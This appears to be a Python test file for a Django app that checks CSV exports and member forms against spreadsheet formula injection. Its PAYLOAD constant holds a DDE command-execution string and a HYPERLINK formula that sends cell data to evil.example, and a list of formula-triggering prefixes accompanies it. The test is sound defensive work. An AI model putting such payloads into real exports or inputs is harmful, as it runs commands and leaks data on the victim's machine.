"""Attack 20: a name that a spreadsheet runs as a formula on the convener's machine."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client, override_settings
from tests.boundaries.addresses import DOORS, addresses
from tests.people.conftest import _quick, invite  # noqa: F401  a fixture
from tests.voices.sample import ROOM, SLUG, Room

from baithak.people.models import Convening, Member, Side
from baithak.people.wording import name_of
from baithak.web.errors import Refusal

STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠",
    " =", "\u200b=", "\ufeff=", '"=', "'=", ";=", ",=", "\u200d=",
)  # fmt: skip
PAYLOAD = 'cmd|\'/c calc\'!A1,HYPERLINK("http://evil.example/?"&A1,"x")'
RUN = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def cells_that_run(table: str) -> list[str]:
    """The cells that a spreadsheet would run, at whichever sign it splits the file and whatever it drops in front."""
    found = []
    for mark in ",;\t":
        for row in csv.reader(io.StringIO(table.lstrip("\ufeff"), newline=""), delimiter=mark):
            found += [cell for cell in row if mark == "," and cell.lstrip(" \t\r\n\u200b\u200d\ufeff").startswith(RUN)]
            found += [cell for cell in row if mark != "," and cell.startswith(RUN)]
    return found


def test_the_measure_finds_a_formula() -> None:
    assert cells_that_run("name\r\n=1+1\r\n") and cells_that_run('name\r\n"\t=1+1"\r\n')
    assert not cells_that_run("name,email\r\n'=1+1,a@example.org\r\n")


def every_csv(client: Client, door: str, given: dict[str, object]) -> dict[str, str]:
    """Every table that any address of the door gives, whoever adds it."""
    found = {}
    with override_settings(ROOT_URLCONF=DOORS[door]):
        for one in addresses(DOORS[door]):
            for method in (client.get, client.post):
                if method == client.post and "export" not in one.route:
                    continue
                answer = method(one.filled(given))
                is_file = "attachment" in answer.get("Content-Disposition", "")
                kind = answer.get("Content-Type", "")
                if "csv" in kind or "spreadsheet" in kind or (is_file and "json" not in kind):
                    found[one.route] = answer.content.decode()
    return found


@pytest.fixture
def staff(signed_in: Callable[..., Any]) -> Client:
    client = Client()
    for duty, side in (("convener", ""), ("facilitator", ""), ("moderator", "east")):
        signed_in(client, duty, "", side, email="all@example.org")
    client.cookies["room"] = ROOM.hex()
    return client


def test_no_cell_of_any_table_runs(convening: Convening, room: Room, staff: Client) -> None:
    """The names are put into the database past every form: what is written out must be safe by itself."""
    everybody = invite(convening, "india", len(STARTS))
    for member, start in zip(everybody, STARTS, strict=True):
        Member.objects.filter(pk=member.pk).update(name=start + PAYLOAD)
    Member.objects.filter(pk=everybody[0].pk).update(email="=1+1@example.org", role="=2", language="-3")
    Side.objects.filter(side="india").update(name={"en": "=1+2", "hi": "+1", "ur": "@SUM(A1)"})
    room.all_speak()
    given = {
        "slug": "water", "member_id": everybody[0].pk, "side": "india", "name": "outline", "template": "blank",
        "token": "0" * 32, "number": 1, "statement": "0" * 32, "scrutineer": "0" * 32, "passkey_id": 1, "duty_id": 1,
    }  # fmt: skip
    tables = every_csv(staff, "convening", given) | every_csv(staff, "roundtable", given | {"slug": SLUG})
    assert "d/<slug:slug>/members/export/" in tables, "the attack found no table: it must be repaired"
    for route, table in tables.items():
        assert PAYLOAD[:8] in table and cells_that_run(table) == [], route


@pytest.mark.parametrize("start", STARTS[:11])
def test_no_form_lets_a_formula_in(convening: Convening, staff: Client, start: str) -> None:
    with pytest.raises(Refusal):
        name_of(f"{start}1+1\u202e", 120) if not start.strip() else name_of(start.strip() + "1+1", 120)
    with override_settings(ROOT_URLCONF=DOORS["convening"]):
        listed = f'name,email,side\n"{start.strip()}1+1",a@example.org,India\n'
        staff.post("/d/water/members/list/", {"text": listed, "save": "yes"})
        form = {"name": start + "1+1", "email": "a@example.org", "side": "india"}
        more = {"role": "other", "gender": "unsaid", "generation": "unsaid", "language": "en"}
        staff.post("/d/water/members/add/", form | more)
    assert not Member.objects.exists()
